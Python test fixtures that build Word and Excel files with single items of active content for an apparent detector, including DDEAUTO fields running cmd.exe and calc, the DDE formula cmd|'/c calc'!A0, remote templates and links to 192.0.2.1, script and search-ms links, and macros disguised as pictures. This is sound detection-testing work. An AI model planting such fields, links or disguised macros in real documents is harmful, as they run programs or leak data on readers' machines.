"""Files with one item of active content each: made with python-docx, in raw XML with other prefixes, in workbooks."""

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import partial
from typing import Any

from generator.office.live_content.live_kinds import Effect
from tests.templates.excel.workbooks import workbook
from tests.word_documents import make_docx, packed, parts

ACTS, REACHES, LEFT_OUT = Effect.ACTS, Effect.REACHES, Effect.LEFT_OUT
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_NAMES = (
    f'xmlns:w="{_W}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
)
DOCUMENT, SETTINGS, BOOK, SHEET = (
    "word/document.xml", "word/settings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml",
)  # fmt: skip
VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le")


@dataclass(frozen=True)
class Case:
    """A file with one item of active content: its effect, its Chinese name, and the address in its problem."""

    name: str
    make: Callable[[], bytes] = field(repr=False)
    effect: Effect
    called: str
    address: str = ""


def complex_field(*code: str, text: str = "旧") -> str:
    """A complex field whose code is split into a run for each piece."""
    return f"{_mark('begin')}{''.join(map(_code, code))}{_mark('separate')}<w:r><w:t>{text}</w:t></w:r>{_mark('end')}"


def _code(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def simple_field(code: str) -> str:
    return f'<w:fldSimple w:instr="{code}"><w:r><w:t>旧</w:t></w:r></w:fldSimple>'


def word(body: str = "", part: str = DOCUMENT, text: str = "甲") -> bytes:
    """A document of python-docx with one more paragraph, or other XML, in its text or another of its stories."""
    contents = parts(make_docx([text], header="页眉", footer="页脚"))
    name = part if part in contents else next(each for each in contents if re.fullmatch(rf"word/{part}\d*\.xml", each))
    xml = contents[name].decode()
    head = re.search(r"<w:(document|hdr|ftr|settings)\b[^>]*>", xml)
    assert head is not None
    place = re.search("<w:body>", xml) if head[1] == "document" else head
    assert place is not None
    body = re.sub(r"<w:(\w+)", rf"<w:\1 {_NAMES}", body, count=1)
    contents[name] = f"{xml[: place.end()]}{body}{xml[place.end() :]}".encode()
    return packed(contents)


def paragraph(inner: str, part: str = DOCUMENT) -> bytes:
    return word(f"<w:p>{inner}</w:p>", part)


def related(data: bytes, kind: str, target: str, of: str, *, external: bool = True, base: str = OFFICE) -> bytes:
    """``data`` with one more relationship of the part ``of``, or of the package where that is empty; its id is rIdX."""
    contents = parts(data)
    folder, _, name = of.rpartition("/")
    listing = f"{folder}/_rels/{name}.rels".lstrip("/")
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'
    empty = f'<Relationships xmlns="{_RELATIONS}"></Relationships>'
    before = contents.get(listing, empty.encode()).decode()
    before = re.sub(r"<Relationships([^>]*)/>", r"<Relationships\1></Relationships>", before)
    contents[listing] = before.replace("</Relationships>", f"{row}</Relationships>").encode()
    return packed(contents)


def holding(data: bytes, part: str, content: bytes, content_type: str = "") -> bytes:
    """``data`` with one more part; without a type of its own where ``content_type`` is empty."""
    contents = parts(data)
    contents[part] = content
    if content_type:
        override = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
        contents["[Content_Types].xml"] = contents["[Content_Types].xml"].replace(b"</Types>", override.encode())
    return packed(contents)


def under_other_prefixes(body: str) -> bytes:
    """A bare document whose prefixes are not the usual ones, as other programs and converters write them."""
    text = re.sub(r"\bw:", "ns0:", f"<w:document {_NAMES}><w:body>{body}<w:sectPr/></w:body></w:document>")
    text = text.replace(f'xmlns:ns0="{_W}"', f'xmlns:ns0="{_W}"').replace("xmlns:w=", "xmlns:ns0=")
    contents = parts(make_docx(["甲"]))
    return packed({**contents, DOCUMENT: text.encode()})


def in_settings(kind: str, target: str, element: str) -> bytes:
    return related(word(element, SETTINGS), kind, target, SETTINGS)


def with_formula(formula: str) -> bytes:
    """A workbook whose cell B2 has this formula."""

    def put(sheet: Any) -> None:
        sheet["B2"] = f"={formula}"

    return workbook([["名单"]], put)


def with_sheet(change: Callable[[Any], None]) -> bytes:
    return workbook([["名单"]], change)


def by_code(name: str, called: str, *pieces: str) -> Case:
    """A complex field that acts, whose code is split into these pieces."""
    return Case(name, lambda: paragraph(complex_field(*pieces)), ACTS, called, "".join(pieces))


def by_formula(name: str, formula: str, effect: Effect, called: str) -> Case:
    """A cell with this formula."""
    return Case(name, lambda: with_formula(formula), effect, called, formula)


def picture(attributes: str) -> str:
    """A picture of DrawingML with these attributes."""
    return f"<w:r><w:drawing><a:blip {attributes}/></w:drawing></w:r>"


def vml(inner: str) -> str:
    """A shape of VML."""
    return f"<w:r><w:pict><v:shape>{inner}</v:shape></w:pict></w:r>"


def _named(sheet: Any) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    sheet.parent.defined_names["取数"] = DefinedName("取数", attr_text='_xlfn.WEBSERVICE("http://192.0.2.1/")')


def _validated(sheet: Any) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    rule = DataValidation(type="list", formula1="'file:///C:/示例/b.xlsx'#$Sheet1.A1:A9")
    rule.add("C1")
    sheet.add_data_validation(rule)


def _linked_cell(address: str) -> bytes:
    def put(sheet: Any) -> None:
        sheet["A1"].hyperlink = address

    return workbook([["名单"]], put)


WEB, LOCAL, SHARE = "http://192.0.2.1/a.png", "file:///C:/示例/a.png", r"\\192.0.2.1\share\a.docx"
_DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
_CODE_FIELD, _CODE_DDE = "会自己取文件或者执行命令的域", "会启动程序的内容（DDE）"
_FILE, _LINKED = "指向本机或者局域网文件的链接", "链接到外部的图片"

CHANGING = (
    *("DATE", "TIME", "CREATEDATE", "PRINTDATE", "SAVEDATE", "EDITTIME", "AUTHOR", "LASTSAVEDBY", "FILENAME"),
    *("FILESIZE", "USERNAME", "DOCPROPERTY 甲", "INFO Title", "REF _Ref1", "PAGEREF _Ref1", "NOTEREF _Ref1"),
)
BOUND = ('TOC \\o "1-3" \\h', 'STYLEREF "标题 1"', "INDEX", "BIBLIOGRAPHY")

FIELD_CASES = (
    *(Case(each, partial(paragraph, simple_field(each)), Effect.CHANGES, "会自己变的域", each) for each in CHANGING),
    *(Case(each, partial(paragraph, complex_field(each)), Effect.BOUND, "离不开原文件的域", each) for each in BOUND),
    Case("day of today", lambda: paragraph("<w:r><w:dayShort/></w:r>"), Effect.CHANGES, "会自己变的域"),
)

_MACROS: Mapping[str, Callable[[], bytes]] = {
    "macros": lambda: holding(
        related(word(), "vbaProject", "vbaProject.bin", DOCUMENT, external=False, base=MICROSOFT),
        "word/vbaProject.bin",
        VBA,
        "application/vnd.ms-office.vbaProject",
    ),
    "macros under a plain type": lambda: holding(
        related(word(), "vbaProject", "a.bin", DOCUMENT, external=False, base=MICROSOFT),
        "word/a.bin",
        b"x",
        "application/octet-stream",
    ),
    "macros as a picture": lambda: holding(
        related(word(), "image", "media/a.png", DOCUMENT, external=False), "word/media/a.png", VBA, "image/png"
    ),
    "macros that nothing refers to": lambda: holding(word(), "word/vbaProject.bin", b"x", "application/octet-stream"),
    "an embedded workbook with macros": lambda: holding(
        related(word(), "package", "embeddings/a.xlsm", DOCUMENT, external=False),
        "word/embeddings/a.xlsm",
        b"PK",
        "application/vnd.ms-excel.sheet.macroEnabled.12",
    ),
}

WORD_CASES = (
    Case(
        "attached template",
        lambda: in_settings("attachedTemplate", "http://192.0.2.1/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
        LEFT_OUT, "附加的模板", "http://192.0.2.1/x.dotm",
    ),
    Case(
        "attached template of a computer",
        lambda: in_settings("attachedTemplate", "file:///C:/x.dotm", '<w:attachedTemplate r:id="rIdX"/>'), LEFT_OUT,
        "附加的模板", "file:///C:/x.dotm",
    ),
    Case(
        "subdocument", lambda: related(word('<w:subDoc r:id="rIdX"/>'), "subDocument", "b.docx", DOCUMENT), ACTS,
        "子文档", "b.docx",
    ),
    Case("subdocument without a relationship", lambda: word("<w:subDoc/>"), ACTS, "子文档"),
    Case(
        "altChunk",
        lambda: related(word('<w:altChunk r:id="rIdX"/>'), "aFChunk", "/word/a.html", DOCUMENT, external=False),
        ACTS,
        "打开时才并入的文件（altChunk）",
    ),
    Case(
        "linked object",
        lambda: related(
            paragraph('<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdX"/></w:object></w:r>'),
            "oleObject",
            WEB,
            DOCUMENT,
        ),
        ACTS,
        "链接到文件的对象（OLE）",
        WEB,
    ),
    Case(
        "linked object that says so",
        lambda: paragraph('<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/></w:object></w:r>'),
        ACTS,
        "链接到文件的对象（OLE）",
    ),
    *(Case(name, make, ACTS, "宏") for name, make in _MACROS.items()),
    Case(
        "control",
        lambda: holding(
            related(
                paragraph('<w:r><w:control r:id="rIdX"/></w:r>'),
                "control",
                "activeX/activeX1.xml",
                DOCUMENT,
                external=False,
            ),
            "word/activeX/activeX1.xml",
            b"<x/>",
            "application/vnd.ms-office.activeX+xml",
        ),
        ACTS,
        "控件",
    ),
    Case("control without a relationship", lambda: paragraph("<w:r><w:control/></w:r>"), ACTS, "控件"),
    by_code("field of a control", "控件", "CONTROL Forms.TextBox.1 \\s"),
    Case(
        "web add-in",
        lambda: holding(
            word(), "word/webextensions/webextension1.xml", b"<x/>", "application/vnd.ms-office.webextension+xml"
        ),
        ACTS,
        "脚本或者网页加载项",
    ),
    Case(
        "web video",
        lambda: paragraph('<w:r><w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/></w:drawing></w:r>'), ACTS,
        "脚本或者网页加载项", "<iframe>",
    ),
    Case(
        "script link",
        lambda: related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "java&#10;script:alert(1)", DOCUMENT),
        ACTS, "脚本或者网页加载项", "java\nscript:alert(1)",
    ),
    Case(
        "search link", lambda: related(word(), "hyperlink", "search-ms:query=a&amp;crumb=location:x", DOCUMENT), ACTS,
        "脚本或者网页加载项", "search-ms:query=a&crumb=location:x",
    ),
    Case(
        "file link",
        lambda: related(paragraph('<w:hyperlink r:id="rIdX"/>'), "hyperlink", "file:///C:/a.docx", DOCUMENT), ACTS,
        _FILE, "file:///C:/a.docx",
    ),
    Case(
        "file link in escapes", lambda: related(word(), "hyperlink", "%66ile:///C:/a.docx", DOCUMENT), ACTS, _FILE,
        "%66ile:///C:/a.docx",
    ),
    Case("share link", lambda: related(word(), "hyperlink", SHARE, DOCUMENT), ACTS, _FILE, SHARE),
    Case(
        "drive link in a header", lambda: related(word(part="header"), "hyperlink", "D:\\a.docx", "word/header1.xml"),
        ACTS, _FILE, "D:\\a.docx",
    ),
    by_code("file link of a field", _FILE, 'HYPERLINK "file:///C:/a.docx"'),
    by_code("share link of a field", _FILE, r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"'),
    by_code("DDEAUTO", _CODE_DDE, _DDE),
    by_code("DDE cut over runs", _CODE_DDE, "D", "D", "EAU", r'TO c:\\x "a"'),
    Case("DDE in small letters", lambda: paragraph(simple_field("dde x y")), ACTS, _CODE_DDE, "dde x y"),
    Case(
        "DDE over paragraphs",
        lambda: word(f"<w:p>{_mark('begin')}{_code('DDE')}</w:p><w:p>{_code(' x y')}{_mark('end')}</w:p>"), ACTS,
        _CODE_DDE, "DDE x y",
    ),
    Case(
        "DDE that never ends", lambda: paragraph(f"{_mark('begin')}<w:r><w:instrText>DDE x y</w:instrText></w:r>"),
        ACTS, _CODE_DDE, "DDE x y甲",
    ),
    Case(
        "DDE within a condition",
        lambda: paragraph(
            f"{_mark('begin')}{_code('IF 1 = 1 &quot;')}{complex_field('DDE x y')}{_code('&quot;')}{_mark('end')}"
        ),
        ACTS,
        _CODE_DDE,
        "DDE x y",
    ),
    Case(
        "DDE within a result",
        lambda: paragraph(
            f"{_mark('begin')}{_code('PAGE')}{_mark('separate')}{complex_field('DDE x y')}{_mark('end')}"
        ),
        ACTS,
        _CODE_DDE,
        "DDE x y",
    ),
    Case(
        "DDE with its code as text", lambda: paragraph(f"{_mark('begin')}<w:r><w:t>DDE x y</w:t></w:r>{_mark('end')}"),
        ACTS, _CODE_DDE, "DDE x y",
    ),
    Case(
        "INCLUDETEXT in a footer",
        lambda: word(f"<w:p>{complex_field('INCLUDETEXT &quot;C:/a.docx&quot;')}</w:p>", "footer"), ACTS, _CODE_FIELD,
        'INCLUDETEXT "C:/a.docx"',
    ),
    by_code("INCLUDEPICTURE", _CODE_FIELD, 'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'),
    by_code("LINK", _CODE_FIELD, 'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a'),
    Case("RD", lambda: paragraph(simple_field("RD &quot;C:/a.docx&quot;")), ACTS, _CODE_FIELD, 'RD "C:/a.docx"'),
    Case(
        "MACROBUTTON", lambda: paragraph(simple_field("MACROBUTTON Run 点这里")), ACTS, _CODE_FIELD,
        "MACROBUTTON Run 点这里",
    ),
    Case(
        "DDE under other prefixes", lambda: under_other_prefixes(f"<w:p>{complex_field('DDE', ' x y')}</w:p>"), ACTS,
        _CODE_DDE, "DDE x y",
    ),
    Case("subdocument under other prefixes", lambda: under_other_prefixes("<w:p/><w:subDoc/>"), ACTS, "子文档"),
    Case(
        "linked picture", lambda: related(paragraph(picture('r:link="rIdX"')), "image", WEB, DOCUMENT), REACHES,
        _LINKED, WEB,
    ),
    Case(
        "linked picture of a computer", lambda: related(paragraph(picture('r:link="rIdX"')), "image", LOCAL, DOCUMENT),
        ACTS, _FILE, LOCAL,
    ),
    Case("picture of VML by its address", lambda: paragraph(vml(f'<v:imagedata src="{WEB}"/>')), REACHES, _LINKED, WEB),
    Case(
        "picture of VML by a relationship",
        lambda: related(paragraph(vml('<v:imagedata r:href="rIdX"/>')), "image", WEB, DOCUMENT), REACHES, _LINKED, WEB,
    ),
    Case("fill of VML", lambda: paragraph(vml(f'<v:fill type="frame" o:href="{WEB}"/>')), REACHES, _LINKED, WEB),
    Case(
        "fill of VML from a share", lambda: paragraph(vml(r'<v:fill type="frame" src="\\192.0.2.1\a.png"/>')), ACTS,
        _FILE, r"\\192.0.2.1\a.png",
    ),
    Case(
        "shape that links to a file",
        lambda: paragraph('<w:r><w:pict><v:shape href="file:///C:/a.exe"/></w:pict></w:r>'), ACTS, _FILE,
        "file:///C:/a.exe",
    ),
    Case(
        "page in a frame", lambda: related(word(), "frame", "http://192.0.2.1/", SETTINGS), ACTS, "框架里的网页",
        "http://192.0.2.1/",
    ),
    Case(
        "something unheard of", lambda: related(word(), "novelty", "http://192.0.2.1/", DOCUMENT), REACHES,
        "链接到外部的内容", "http://192.0.2.1/",
    ),
)  # fmt: skip

SHEET_CASES = (
    by_formula("web service", '_xlfn.WEBSERVICE("http://192.0.2.1/")', REACHES, "会访问外部的公式"),
    Case(
        "web service in a name", lambda: with_sheet(_named), REACHES, "会访问外部的公式",
        '_xlfn.WEBSERVICE("http://192.0.2.1/")',
    ),
    by_formula("link by formula", 'HYPERLINK("http://192.0.2.1/"&A1,"看")', REACHES, "会访问外部的公式"),
    by_formula("file link by formula", 'hyperlink("file:///C:/a.exe")', ACTS, _FILE),
    by_formula("picture by formula", '_xlfn.IMAGE("http://192.0.2.1/a.png")', REACHES, "会访问外部的公式"),
    by_formula("program by formula", "cmd|'/c calc'!A0", ACTS, _CODE_DDE),
    by_formula("program by function", 'DDE("soffice","a","b")', ACTS, _CODE_DDE),
    by_formula("real-time data", 'RTD("x",,"y")', ACTS, _CODE_DDE),
    by_formula("other workbook by its path", "'C:\\a\\[b.xlsx]Sheet1'!A1", REACHES, "引用其他工作簿的链接"),
    Case(
        "other workbook in a rule", lambda: with_sheet(_validated), REACHES, "引用其他工作簿的链接",
        "'file:///C:/示例/b.xlsx'#$Sheet1.A1:A9",
    ),
    Case(
        "other workbook by a relationship",
        lambda: related(
            workbook([["名单"]]), "externalLinkPath", "file:///C:/b.xlsx", "xl/externalLinks/externalLink1.xml"
        ),
        REACHES,
        "引用其他工作簿的链接",
        "file:///C:/b.xlsx",
    ),
    Case(
        "program by a relationship",
        lambda: holding(
            workbook([["名单"]]),
            "xl/externalLinks/externalLink1.xml",
            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
        ACTS,
        _CODE_DDE,
        "cmd|/c calc",
    ),
    Case(
        "connection", lambda: related(workbook([["名单"]]), "connections", "connections.xml", BOOK, external=False),
        REACHES, "外部数据连接",
    ),
    Case(
        "macros of a workbook under a plain type",
        lambda: holding(workbook([["名单"]]), "xl/a.bin", VBA, "application/octet-stream"), ACTS, "宏",
    ),
    Case(
        "macro sheet",
        lambda: holding(
            workbook([["名单"]]), "xl/macrosheets/sheet1.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"
        ),
        ACTS,
        "宏",
    ),
    Case(
        "control of a workbook",
        lambda: related(workbook([["名单"]]), "control", "../activeX/a.xml", SHEET, external=False), ACTS, "控件",
    ),
    Case("file link of a cell", lambda: _linked_cell("file:///C:/a.exe"), ACTS, _FILE, "file:///C:/a.exe"),
)  # fmt: skip

HARMLESS = (
    ("a plain document", lambda: word()),
    ("web link", lambda: related(word(), "hyperlink", "https://example.org/a?b=c:d", DOCUMENT)),
    ("mail link", lambda: related(word(), "hyperlink", "mailto:a@example.org", DOCUMENT)),
    ("telephone link", lambda: related(word(), "hyperlink", "tel:023-00000000", DOCUMENT)),
    ("link to a file beside", lambda: related(word(), "hyperlink", "附件1.docx", DOCUMENT)),
    (
        "link with a tag",
        lambda: related(word(), "hyperlink", "https://example.org/%7B%7B%20unit.code%20%7D%7D", DOCUMENT),
    ),
    ("web link of a field", lambda: paragraph(complex_field('HYPERLINK "https://example.org/"'))),
    (
        "frame of a link",
        lambda: paragraph(complex_field(r'HYPERLINK "https://example.org/" \t "/Users/a" \o "\\\\a\\b"')),
    ),
    ("link within the document", lambda: paragraph(complex_field('HYPERLINK \\l "_Toc1" \\o "说明"'))),
    ("page number", lambda: paragraph(simple_field(" PAGE \\* MERGEFORMAT "))),
    ("merge field called DDE", lambda: paragraph(complex_field("MERGEFIELD DDE"))),
    ("reference to a bookmark", lambda: paragraph(f'<w:bookmarkStart w:name="甲"/>{complex_field("REF 甲")}')),
    ("reference to a value", lambda: paragraph(complex_field("SET 甲 1") + complex_field("REF 甲"))),
    ("place to click at", lambda: paragraph(simple_field("MACROBUTTON NoMacro 点这里"))),
    ("references of an add-in", lambda: paragraph(complex_field("ADDIN EN.CITE"))),
    (
        "embedded object",
        lambda: related(
            paragraph('<w:r><w:object><o:OLEObject Type="Embed" r:id="rIdX"/></w:object></w:r>'),
            "oleObject",
            "embeddings/a.bin",
            DOCUMENT,
            external=False,
        ),
    ),
    (
        "embedded picture",
        lambda: related(paragraph(picture('r:embed="rIdX"')), "image", "media/a.png", DOCUMENT, external=False),
    ),
    ("text about DDE", lambda: word("<w:p><w:r><w:t>DDEAUTO c:\\x</w:t></w:r></w:p>")),
    ("a plain workbook", lambda: workbook([["名单"], ["A|B"], ['WEBSERVICE("x")']])),
    ("sum", lambda: with_formula("SUM(A1:A9)")),
    ("functions of like names", lambda: with_formula("MYIMAGE(1)+IMAGES(2)")),
    ("words about them", lambda: with_formula('"WEBSERVICE(""x"")|[a.xlsx]"&A1')),
    ("table column", lambda: with_formula("SUM(表1[2024])")),
    ("link within the workbook", lambda: with_formula('HYPERLINK("#Sheet2!A1","看")')),
    ("web link of a cell", lambda: _linked_cell("https://example.org/")),
)
